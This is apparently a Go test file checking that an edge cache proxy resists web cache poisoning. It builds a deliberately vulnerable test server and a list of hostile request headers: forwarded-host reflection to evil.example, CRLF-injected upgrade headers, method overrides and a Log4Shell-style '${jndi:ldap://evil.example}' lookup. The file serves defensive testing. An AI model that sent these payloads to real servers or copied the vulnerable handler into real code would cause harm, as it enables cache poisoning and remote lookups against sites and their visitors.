package endurance_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// attack is a request that wants to leave something behind for others.
type attack struct {
	name, method, header, body string
	victim                     string // the address of both: ok or missing
}

// attacks are requests that a server answers with an error, a redirect or a
// reflection, for a reason that a cache does not see.
func attacks() []attack {
	var all []attack
	for name, header := range map[string]string{
		"a long header":             "X-Long: " + strings.Repeat("a", 20<<10),
		"a header beyond the limit": "X-Long: " + strings.Repeat("a", 100<<10),
		"a control character":       "X-Meta: a\x07b",
		"a NUL":                     "X-Meta: a\x00b",
		"a bad field name":          "X Meta: a",
		"another method":            "X-HTTP-Method-Override: DELETE",
		"another host":              "X-Forwarded-Host: evil.example",
		"another host, standard":    "Forwarded: host=evil.example;proto=gopher",
		"another scheme":            "X-Forwarded-Scheme: gopher",
		"another protocol":          "X-Forwarded-Proto: gopher",
		"another port":              "X-Forwarded-Port: 666",
		"another address":           "X-Real-IP: 6.6.6.6",
		"an underscore":             "X_Forwarded_Host: evil.example",
		"two hosts":                 "Host: evil.example",
		"a bad range":               "Range: bytes=cow-",
		"a range beyond the end":    "Range: bytes=999999-",
		"a bad expectation":         "Expect: cows",
		"a bad coding":              "Accept-Encoding: cow",
		"a coding":                  "Accept-Encoding: br",
		"a condition":               `If-Match: "evil"`,
		"a type with GET":           "Content-Type: evil/evil",
		"an upgrade":                "Connection: Upgrade\r\nUpgrade: evil",
		"a forbidden word":          "X-Trace: ${jndi:ldap://evil.example}",
		"an origin":                 "Origin: https://evil.example",
		"a referrer":                "Referer: https://a.example/evil",
		"a language":                "Accept-Language: de",
		"a request id":              "X-Request-Id: evil",
		"credentials":               "Authorization: Basic evil",
		"a script's request":        "Sec-Fetch-Mode: cors\r\nSec-Fetch-Dest: empty",
		"a machine's type":          "Accept: application/problem+json",
		"a session":                 "Cookie: session=evil",
		"a hop":                     "Connection: close, X-Forwarded-For, Cookie",
	} {
		for _, victim := range []string{"ok", "missing"} {
			all = append(all, attack{name, http.MethodGet, header + "\r\n", "", victim})
		}
	}
	for _, method := range []string{http.MethodPost, http.MethodHead, http.MethodDelete, "EVIL"} {
		all = append(all, attack{"the method " + method, method, "", "", "ok"}, attack{"the method " + method, method, "", "", "missing"})
	}
	return append(all, attack{"a body with GET", http.MethodGet, "", "evil", "ok"})
}

// fragile is a server with the weaknesses that attacks on caches need. It lets
// everybody store its errors, as a careless configuration does.
func fragile(t *testing.T) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Cache-Control", "public, max-age=600")
		w.Header().Set("Content-Type", "text/html")
		if code := upset(r); code != 0 {
			w.WriteHeader(code)
			_, _ = io.WriteString(w, "no")
			return
		}
		reflected := r.Header.Get("X-Forwarded-Host") + r.Header.Get("Forwarded") + r.Header.Get("X-Forwarded-Port")
		reflected = strings.ReplaceAll(strings.ReplaceAll(reflected, "a.example", ""), "b.example", "")
		if strings.Contains(r.Header.Get("X-Forwarded-Proto")+r.Header.Get("X-Forwarded-Scheme"), "gopher") {
			http.Redirect(w, r, "https://evil.example/", http.StatusMovedPermanently)
			return
		}
		if strings.Contains(r.URL.Path, "/missing/") {
			w.WriteHeader(http.StatusNotFound)
			_, _ = io.WriteString(w, "no")
			return
		}
		fmt.Fprintf(w, "%s<!-- %s -->", goods, evil.FindString(reflected))
	}))
	t.Cleanup(srv.Close)
	return srv
}

var evil = regexp.MustCompile(`evil|666`)

// upset is the error that a request causes.
func upset(r *http.Request) int {
	size := 0
	for name, values := range r.Header {
		size += len(name) + len(strings.Join(values, ""))
	}
	switch h := r.Header; {
	case size > 8<<10:
		return http.StatusBadRequest
	case !slices.Contains([]string{http.MethodGet, http.MethodHead}, r.Method):
		return http.StatusNotImplemented
	case h.Get("X-HTTP-Method-Override") != "":
		return http.StatusMethodNotAllowed
	case h.Get("Range") != "":
		return http.StatusRequestedRangeNotSatisfiable
	case h.Get("Accept-Encoding") == "cow":
		return http.StatusNotAcceptable
	case h.Get("If-Match") != "":
		return http.StatusPreconditionFailed
	case h.Get("Content-Type") == "evil/evil":
		return http.StatusUnsupportedMediaType
	case strings.Contains(h.Get("X-Trace"), "jndi"):
		return http.StatusForbidden
	case h.Get("Authorization") != "":
		return http.StatusUnauthorized
	case r.ContentLength > 0:
		return http.StatusRequestEntityTooLarge
	}
	return 0
}

// twins are two sites that are the same. One is attacked. The owner has chosen
// to let no error be stored that an answer to a program passes on: by default
// what the server says of its own errors stays.
func twins(t *testing.T, upstream string) string {
	t.Helper()
	text := `version: 1
listen: { http: "127.0.0.1:0" }
admin: { listen: "127.0.0.1:0" }
log: { access: { output: none }, format: json }
storage: { path: ` + t.TempDir() + ` }
defaults:
  brand: { name: Shop, show: [steps, links, contact] }
  last_good: { if_error: 24h }
  cache: { guard: all }
sites:
`
	for _, host := range []string{"a.example", "b.example"} {
		text += fmt.Sprintf("  - { host: %s, upstream: \"%s\" }\n", host, upstream)
	}
	return configure(t, text)
}

func (a attack) path(number int) string { return fmt.Sprintf("/%s/%d", a.victim, number) }

// raw is the attack as a browser or a program sends it.
func (a attack) raw(number int, browses bool) string {
	header := a.header
	for line := range strings.Lines(fieldsOf(browses)) {
		if name, _, _ := strings.Cut(line, ":"); !strings.Contains(a.header, name+":") {
			header += line
		}
	}
	return request(a.method, "a.example", a.path(number), header, a.body)
}

// victimOf is what somebody else asks afterwards.
func (a attack) victimOf(host string, number int, browses bool) string {
	return request(http.MethodGet, host, a.path(number), fieldsOf(browses), "")
}

// fieldsOf are those of a browser, or of a program.
func fieldsOf(browses bool) string {
	if browses {
		return navigation
	}
	return "Accept: */*\r\n"
}

// same compares what two visitors got, apart from what differs each time.
func same(a, b met) bool {
	for _, m := range []met{a, b} {
		for _, name := range []string{"Date", "X-Request-Id", "Server-Timing", "Age"} {
			m.header.Del(name)
		}
	}
	return a.code == b.code && fmt.Sprint(a.header, a.err) == fmt.Sprint(b.header, b.err) &&
		strings.ReplaceAll(string(a.body), "a.example", "b.example") == string(b.body)
}

// poisoned asks as the victims do after each attack, and returns what they got
// that others did not.
func poisoned(at string) (found []string) {
	number := 0
	for _, a := range attacks() {
		for _, browse := range [][2]bool{{true, true}, {true, false}, {false, true}, {false, false}} {
			number++
			cache := &front{at: at, stored: map[string][]variant{}}
			cache.ask(a.raw(number, browse[0]))
			got := cache.ask(a.victimOf("a.example", number, browse[1]))
			want := cache.ask(a.victimOf("b.example", number, browse[1]))
			if want.err != nil || !same(got, want) {
				found = append(found, fmt.Sprintf("%s, %s: %d %v %.80q, want %d %v", a.name, a.victim, got.code, got.header, got.body, want.code, want.header))
			}
		}
	}
	return found
}

func TestNoRequestPoisonsACacheBeforeTheEdge(t *testing.T) {
	site := fragile(t)
	p := start(t, twins(t, site.URL))
	for _, f := range poisoned(p.at) {
		t.Error(f)
	}
	t.Logf("%d pairs", 4*len(attacks()))
}

// The control: without the edge most of these attacks work.
func TestTheFragileServerCanBePoisoned(t *testing.T) {
	if n := len(poisoned(fragile(t).Listener.Addr().String())); n < 10 {
		t.Errorf("only %d attacks work: the test sees little", n)
	}
}

// What is kept for the time when the site fails is what everybody got: an attack
// makes no copy, and replaces none.
func TestNoRequestPoisonsACopyOfTheEdge(t *testing.T) {
	site := fragile(t)
	p := start(t, twins(t, site.URL))
	all := attacks()
	for number, a := range all {
		if number%2 == 0 { // these had a good copy before
			visit(p.at, a.victimOf("a.example", number, true))
		}
		visit(p.at, a.raw(number, number%3 == 0))
	}
	site.Close()
	copies := 0
	for number, a := range all {
		got, bad := visit(p.at, a.victimOf("a.example", number, true)), visit(p.at, a.victimOf("b.example", number, true))
		isCopy := got.code == http.StatusOK && string(got.body) == goods+"<!--  -->"
		if !isCopy && (got.code != bad.code || number%2 == 0 && a.victim == "ok") {
			t.Errorf("%s, %s: %d %.200q", a.name, a.victim, got.code, got.body)
		}
		if isCopy {
			copies++
		}
	}
	if copies == 0 {
		t.Error("there are no copies: the test sees nothing")
	}
}
